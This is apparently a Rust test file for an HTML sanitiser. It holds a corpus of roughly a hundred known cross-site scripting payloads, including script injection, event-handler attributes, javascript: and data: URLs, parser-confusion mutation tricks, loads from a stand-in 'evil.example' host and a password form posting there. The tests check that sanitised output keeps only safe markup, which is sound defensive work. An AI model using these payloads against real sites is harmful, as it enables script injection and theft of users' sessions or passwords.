use proptest::prelude::*;

use super::*;

const ID: &str = "0123456789abc";

fn kept(markup: &str) -> String {
    rich(markup, 10_000).unwrap_or_else(|code| panic!("{code}: {markup}"))
}

/// What a tag may say, read without the sanitiser: its name, and each attribute with its value.
fn assert_harmless(clean: &str, of: &str) {
    let mut rest = clean;
    while let Some((_, behind)) = rest.split_once('<') {
        let mut quoted = false;
        let end = behind.find(|c| {
            quoted ^= c == '"';
            c == '>' && !quoted
        });
        let (tag, behind) = behind.split_at(end.unwrap_or_else(|| panic!("an open tag: {clean} of {of}")));
        rest = behind;
        let tag = tag.trim_start_matches('/');
        let (name, mut attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(ELEMENTS.contains(&name), "<{name}> in {clean} of {of}");
        while let Some((attribute, behind)) = attributes.split_once("=\"") {
            let (value, behind) = behind.split_once('"').unwrap();
            attributes = behind;
            let fits = match (name, attribute.trim()) {
                ("a", "href") => ["http://", "https://", "mailto:"].iter().any(|scheme| value.starts_with(scheme)),
                ("a", "rel") => value == "nofollow noopener",
                ("img", "src") => value == format!("/v1/uploads/{ID}/content"),
                ("img", "alt") => true,
                ("img", "width" | "height") | ("td" | "th", "colspan" | "rowspan") => value.parse::<u16>().is_ok(),
                _ => false,
            };
            assert!(fits, "{attribute}={value} in {clean} of {of}");
        }
        assert!(attributes.trim().is_empty(), "{attributes} in {clean} of {of}");
    }
    assert_eq!(kept(clean), clean, "once is enough for {of}");
}

/// Ways in that are known: by scripts, handlers, addresses, styles, foreign elements, broken tags, and by what one parser
/// sees and another does not.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=//evil.example></script>",
    "<script\x0csrc=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"/v1/uploads/0123456789abc/content\" onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"jav&#x09;ascript:alert(1)\">",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src=//evil.example/p.png>",
    "<img src=\"https://evil.example/v1/uploads/0123456789abc/content\">",
    "<img src=\"/v1/uploads/0123456789abc/content?x=1\">",
    "<img src=\"/v1/uploads/../sessions/content\">",
    "<img srcset=\"//evil.example/p.png 1x\" src=\"/v1/uploads/0123456789abc/content\">",
    "<img alt=\"src=\" src=\"/v1/uploads/0123456789abc/content\">",
    "<img alt='\"><script>alert(1)</script>' src=\"/v1/uploads/0123456789abc/content\">",
    "<img width=\"1;expression(alert(1))\" src=\"/v1/uploads/0123456789abc/content\">",
    "<img longdesc=//evil.example lowsrc=//evil.example>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//evil.example\">x</a>",
    "<a href=\"/v1/sessions\">x</a>",
    "<a href=\"https://user:pass@evil.example\">x</a>",
    "<a href=\"https://example.com\" target=_blank onclick=alert(1)>x</a>",
    "<a href=\"https://example.com\" style=\"position:fixed;inset:0\">x</a>",
    "<a href=\"https://example.com\" ping=//evil.example download>x</a>",
    "<a href=https://example.com rel=opener>x</a>",
    "<a href=\"blob:https://example.com/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>",
    "<svg><foreignObject><p><script>alert(1)</script></p></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(//evil.example)\">x</p>",
    "<div style=\"position:fixed\">x</div>",
    "<p class=dialog id=page>x</p>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1) src=//evil.example></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<table background=\"javascript:alert(1)\"><tr><td background=//evil.example>x</td></tr></table>",
    "<table><td colspan=\"99999\" onclick=x>x",
    "<table><caption><svg><style><!--</style><img src=x onerror=alert(1)>--></svg>x</table>",
    "<p><table><p><a href=\"javascript:alert(1)\"><p>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]><p>&x;</p>",
    "<xss onmouseover=alert(1)>x</xss>",
    "<p/onmouseover=alert(1)>x</p>",
    "<p \x00onmouseover=alert(1)>x</p>",
    "<p onmouseover\x0b=alert(1)>x</p>",
    "<a\u{a0}href=\"javascript:alert(1)\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<slot onslotchange=alert(1)>",
    "<portal src=//evil.example></portal>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<p><button><p>x</p></button></p>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<li><ul></li><script>alert(1)</script>",
    "<h3><h4><a href=\"https://a.example\"><a href=\"javascript:alert(1)\">x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "<\u{338}script>alert(1)</script>",
    "<p>\u{338}<img src=x onerror=alert(1)>",
    "<a href=\"mailto:x@example.com?body=%0d%0aBcc:y@example.com\">x</a>",
];

#[test]
fn nothing_of_the_corpus_runs_or_loads_from_elsewhere() {
    assert!(CORPUS.len() > 60);
    for attack in CORPUS {
        for markup in [(*attack).to_owned(), format!("<p>a{attack}b</p>"), format!("<table><tr><td>{attack}")] {
            // What nobody sees is refused before it is judged; nothing of it is kept then.
            match rich(&markup, 10_000) {
                Ok(clean) => assert_harmless(&clean, &markup),
                Err(code) => assert_eq!(code, "charset", "{markup}"),
            }
        }
    }
}

#[test]
fn what_is_allowed_stays() {
    let picture = format!("<img src=\"/v1/uploads/{ID}/content\" alt=\"图\" width=\"600\" height=\"400\">");
    let whole = format!(
        "<h3>一</h3><p>二<strong>三</strong><em>四</em><u>五</u><s>六</s><br>七</p><ul><li>八</li></ul><ol><li>九</li></ol>\
         <blockquote>十</blockquote>{picture}<table><caption>表</caption><thead><tr><th colspan=\"2\">头</th></tr></thead>\
         <tbody><tr><td>a</td><td>b</td></tr></tbody></table>"
    );
    assert_eq!(kept(&whole), whole);
    let link = kept("<a href=\"https://example.com/a?b=c&d\">x</a> <a href=mailto:a@example.com>y</a>");
    let rel = "rel=\"nofollow noopener\"";
    assert_eq!(
        link,
        format!(
            "<a href=\"https://example.com/a?b=c&amp;d\" {rel}>x</a> <a href=\"mailto:a@example.com\" {rel}>y</a>"
        )
    );
    assert_eq!(kept("  <p>e\u{301}</p> "), "<p>é</p>");
    assert_eq!(kept("1 < 2 & 3"), "1 &lt; 2 &amp; 3");
    assert_eq!(kept(""), "");
}

#[test]
fn text_is_counted_and_markup_bounded() {
    let text = |chars: usize| format!("<p><strong>{}</strong>&amp;&nbsp;&lt;</p>", "展".repeat(chars - 3));
    assert!(rich(&text(1_500), 1_500).is_ok());
    assert_eq!(rich(&text(1_501), 1_500), Err("too_long"));
    assert!(rich(&format!("<p>a{}b</p>", " \n".repeat(2_000)), 3).is_ok(), "a run of blanks is one");
    let bytes = |count: usize| format!("<p>{}</p>", "a".repeat(count - 7));
    assert!(rich(&bytes(MARKUP_BYTES_MAX), MARKUP_BYTES_MAX).is_ok());
    assert_eq!(rich(&bytes(MARKUP_BYTES_MAX + 1), MARKUP_BYTES_MAX), Err("too_long"));
    assert_eq!(rich(&"&".repeat(MARKUP_BYTES_MAX), MARKUP_BYTES_MAX), Err("too_long"), "as it is kept, too");
    assert_eq!(rich("a\u{202e}b", 10), Err("charset"));
    assert_eq!(rich("a\u{200b}b", 10), Err("charset"));
}

#[test]
fn a_flood_of_open_tags_is_refused_before_it_is_read() {
    let open: String = (0..600).map(|n| format!("<b x{n}>")).collect();
    assert_eq!(rich(&format!("{open}{}", "<p>".repeat(600)), 10_000), Err("too_long"));
    let clock = storage::Clock::system();
    let began = clock.tick();
    let open: String = (0..400).map(|n| format!("<b x{n}>")).collect();
    drop(rich(&format!("{open}{}", "<p>".repeat(400)), 10_000));
    assert!(clock.tick().since_ms(began) < 5_000, "what is just allowed costs little");
}

#[test]
fn pictures_are_found_once_in_their_order_and_exchanged() {
    let at = |id: &str| format!("<img src=\"/v1/uploads/{id}/content\">");
    let (one, two, three) = ("0000000000001", "0000000000002", "0000000000003");
    let tricky = format!("<img alt=\"src=\" src=\"/v1/uploads/{three}/content\">");
    let clean = kept(&format!("{}<p>{}</p>{}{tricky}", at(two), at(one), at(two)));
    let ids: Vec<_> = illustrations(&clean).iter().map(ToString::to_string).collect();
    assert_eq!(ids, [two, one, three]);
    let other = HashMap::from([(two.parse().unwrap(), one.parse().unwrap())]);
    assert_eq!(with_illustrations(&clean, &other), format!("{}<p></p>{}", at(one), at(one)));
    let many = |count: usize| (0..count).map(|n| at(&format!("{n:013}"))).collect::<String>();
    assert!(rich(&many(ILLUSTRATIONS_MAX), 10).is_ok());
    assert_eq!(rich(&many(ILLUSTRATIONS_MAX + 1), 10), Err("too_many"));
}

/// Pieces that parsers stumble over.
const PIECES: &[&str] = &[
    "<p>", "</p>", "<b>", "<button>", "</button>", "<table>", "</table>", "<tr>", "<td>", "<caption>", "<a href=\"https://a\">",
    "<a href='javascript:x'>", "</a>", "<img src=\"/v1/uploads/0123456789abc/content\">", "<img alt='\"' src=x>", "<svg>",
    "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<script>", "</script>", "<title>", "<textarea>", "<select>",
    "<option>", "<ul>", "<li>", "</li>", "<h3>", "<h4>", "<blockquote>", "<form>", "<div>", "</div>", "<!--", "-->", "<![CDATA[",
    "]]>", "&lt;", "&amp;lt;", "&#x3c;", "<", ">", "\"", "'", "=", " ", "\n", "x", "展", "\u{338}", "e\u{301}", "\u{0}",
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn sanitising_twice_is_once(pieces in prop::collection::vec(prop::sample::select(PIECES), 0..24)) {
        let markup = pieces.concat();
        if let Ok(clean) = rich(&markup, 10_000) {
            prop_assert_eq!(rich(&clean, 10_000), Ok(clean.clone()));
            assert_harmless(&clean, &markup);
        }
    }

    #[test]
    fn any_text_is_kept_harmless_or_refused(markup in "\\PC{0,80}") {
        if let Ok(clean) = rich(&markup, 10_000) {
            assert_harmless(&clean, &markup);
        }
    }
}
